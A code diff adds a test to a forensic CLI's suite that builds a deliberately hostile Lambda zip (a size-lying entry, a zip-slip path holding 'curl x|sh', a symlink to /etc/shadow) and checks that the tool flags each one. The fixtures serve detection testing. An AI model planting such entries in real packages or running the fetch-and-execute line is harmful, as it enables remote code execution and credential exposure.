@@ -10,6 +10,7 @@ import { FaultProxy } from '../support/fault-proxy.js'
 import {
   type CompromisedScenario,
   hostileZip,
+  makeZip,
   publishVersion,
   seedAlias,
   seedCompromisedFunction,
@@ -449,6 +450,48 @@ describe('fir snapshot (built CLI against moto): gaps, hostile code, blast radiu
     expect(await exists(join(cwd, '..', 'evil.sh'))).toBe(false)
     expect(await exists(join(caseDir, '..', '..', 'evil.sh'))).toBe(false)
     expect(await exists('/tmp/abs-path.txt')).toBe(absExisted)
+  })
+
+  it('lists every entry of a package whose stored entry lies about its size by one byte: the lie, and the zip-slip and symlink after it, are flagged', async () => {
+    const role = await seedRole(moto.endpoint(), { name: 'hider-role' })
+    const zip = makeZip([
+      { name: 'index.py', data: 'def handler(e,c):\n  return 1\n' },
+      { name: 'liar.bin', data: 'small', declaredUncompressedSize: 6 },
+      { name: '../../../../var/task/evil.sh', data: 'curl x|sh' },
+      { name: 'lnk', data: '/etc/shadow', mode: 0o120777, method: 'store' },
+    ])
+    await seedFunction(moto.endpoint(), { name: 'hider', roleArn: role.arn, zip })
+    const { cwd } = await newCase()
+    const r = await runFir(['snapshot', 'hider', '--case', 'cases/INC-1', '--json'], {
+      cwd,
+      endpoint: moto.endpoint(),
+    })
+    expect(r.code, r.stderr).toBe(4)
+    const hostile = r.json.result.findings.filter((f: any) => f.kind === 'hostile-archive')
+    expect(hostile.map((f: any) => [f.detail.problem, f.level]).sort()).toEqual([
+      ['size-mismatch', 'high'],
+      ['symlink', 'high'],
+      ['zip-slip', 'high'],
+    ])
+    const slip = hostile.find((f: any) => f.detail.problem === 'zip-slip')
+    expect(slip.detail.problems.map((p: any) => p.entry)).toEqual(['../../../../var/task/evil.sh'])
+    expect(hostile.find((f: any) => f.detail.problem === 'size-mismatch').title).toContain('"liar.bin"')
+    const listing = JSON.parse(
+      await readFile(
+        join(
+          r.json.result.dir,
+          slip.evidence.find((e: string) => e.endsWith('.listing.json')),
+        ),
+        'utf8',
+      ),
+    )
+    expect(listing.entries.map((e: any) => e.name)).toEqual([
+      'index.py',
+      'liar.bin',
+      '../../../../var/task/evil.sh',
+      'lnk',
+    ])
+    expect(listing.entries[3].linkTarget).toBe('/etc/shadow')
   })
 
   it('--all-using-role snapshots every function running with the role, and only those', async () => {
